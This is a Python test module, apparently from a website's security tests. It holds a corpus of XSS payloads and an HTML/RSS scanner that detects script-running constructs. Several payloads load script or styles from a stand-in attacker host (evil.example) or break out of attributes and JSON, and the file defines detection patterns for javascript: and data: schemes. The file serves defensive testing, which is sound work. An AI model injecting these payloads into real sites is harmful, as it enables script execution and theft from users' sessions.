"""A corpus of XSS payloads and a scanner that finds anything in a page that could run them.

Each payload holds `{m}`, replaced by a short marker naming the field it was typed into,
so a test can tell that a page really shows that field (as text) and not merely that
nothing bad appeared. The scanner parses the page as a browser would and reports every
way script could run: inline scripts, event-handler attributes, dangerous URL schemes,
frames and plugins, `<base>`, meta refresh, and JSON-LD that does not parse.
"""

import json
import re
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

PAYLOADS = [
    # script tags, plain and disguised
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<svg><script>alert('{m}')</script></svg>",
    "<!--<script>alert('{m}')//-->",
    "＜script＞alert('{m}')＜/script＞",
    # event handlers
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<input onfocus=alert('{m}') autofocus>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    # breaking out of attributes, elements and JSON/JS strings
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    "\" onmouseover=\"alert('{m}')",
    "' onfocus='alert(\"{m}\")' autofocus x='",
    "</script><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "\"-alert('{m}')-\"",
    "\\\";alert('{m}');//",
    "\u2028\u2029</script>{m}",
    '{m}"}}]</script><script>alert(1)</script>',
    # javascript:, data: and friends
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "\tjavascript:alert('{m}')",
    "<a href=\"javascript:alert('{m}')\">klik</a>",
    "<a href=\" &#14; javascript:alert('{m}')\">x</a>",
    "<IMG SRC=JaVaScRiPt:alert('{m}')>",
    "<iframe src=\"javascript:alert('{m}')\">",
    "<object data=\"javascript:alert('{m}')\">",
    "<embed src=\"data:text/html,<script>alert('{m}')</script>\">",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    "<form action=\"javascript:alert('{m}')\"><button>{m}</button></form>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<base href="//evil.example/">{m}',
    # entity tricks: typed entities must come out as the characters typed
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert('{m}')&#x3E;",
    "&quot; onmouseover=&quot;alert('{m}')",
    # styles and template syntax
    "<style>@import'//evil.example/{m}.css';</style>",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    "{{{{ 7*7 }}}}{{% debug %}}${{alert('{m}')}}",
]

# The shortest field that takes these payloads (Section.name) holds 80 characters.
assert all(len(payload.format(m="xx")) <= 80 for payload in PAYLOADS)


def as_web_url(payload):
    """The payload hidden in a valid http(s) URL, for URL fields (which refuse other schemes)."""
    return "https://contoh.id/?q=" + re.sub(r"\s", "%20", payload)


DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f]+")
LOADING_RELATIONS = {"stylesheet", "import", "preload", "modulepreload", "prefetch"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}


def is_own_path(url):
    """A path on this site (what our scripts and stylesheets are), not another site's URL."""
    return url.startswith("/") and not url.startswith(("//", "/\\"))


class DangerScanner(HTMLParser):
    """Collects the page's text and attribute values, and every construct that could run code."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings = []
        self.shown = []
        self._json_ld = None

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.shown += [value for value in attributes.values() if value]
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}> element")
        if tag == "script":
            script_type = (attributes.get("type") or "").lower()
            if script_type == "application/ld+json":
                self._json_ld = []
            elif "src" not in attributes and script_type not in DATA_SCRIPT_TYPES:
                self.findings.append("inline <script>")
            elif not is_own_path(attributes.get("src") or "/"):
                self.findings.append("<script> from another site")
        if tag == "meta" and "http-equiv" in attributes:
            self.findings.append("<meta http-equiv>")
        relations = set((attributes.get("rel") or "").lower().split())
        if relations & LOADING_RELATIONS and not is_own_path(attributes.get("href") or "/"):
            self.findings.append("<link> loading from another site")
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=...> event handler")
            if name == "srcdoc":
                self.findings.append(f"<{tag} srcdoc>")
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(
                CONTROL_AND_SPACE.sub("", value or "")
            ):
                self.findings.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script" and self._json_ld is not None:
            try:
                json.loads("".join(self._json_ld))
            except ValueError:
                self.findings.append("JSON-LD that does not parse (broken out of?)")
            self._json_ld = None

    def handle_data(self, data):
        self.shown.append(data)
        if self._json_ld is not None:
            self._json_ld.append(data)


# Harmless pasted raw into HTML text or a double-quoted attribute: they target other
# contexts (inline JS strings, single-quoted attributes, naive filters, double decoding).
ONLY_DANGEROUS_ELSEWHERE = {
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<!--<script>alert('{m}')//-->",
    "＜script＞alert('{m}')＜/script＞",
    "' onfocus='alert(\"{m}\")' autofocus x='",
    "\"-alert('{m}')-\"",
    "\\\";alert('{m}');//",
    "\u2028\u2029</script>{m}",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert('{m}')&#x3E;",
    "&quot; onmouseover=&quot;alert('{m}')",
    "{{{{ 7*7 }}}}{{% debug %}}${{alert('{m}')}}",
}


def scan(html):
    """(findings, everything shown as text or attribute values) for one page."""
    scanner = DangerScanner()
    scanner.feed(html)
    scanner.close()
    return scanner.findings, "\n".join(scanner.shown)


def scan_feed(xml):
    """(findings, shown) for an RSS feed: readers render each item's description as HTML."""
    findings, shown = [], []
    for element in ElementTree.fromstring(xml).iter():
        if element.tag == "description" and element.text:
            description_findings, description_shown = scan(element.text)
            findings += [f"feed description: {finding}" for finding in description_findings]
            shown.append(description_shown)
        elif element.text:
            shown.append(element.text)
    return findings, "\n".join(shown)


def scan_xml(xml):
    """(findings, shown) for XML read as data (sitemaps): it must parse; text is just text."""
    root = ElementTree.fromstring(xml)
    return [], "\n".join(element.text for element in root.iter() if element.text)
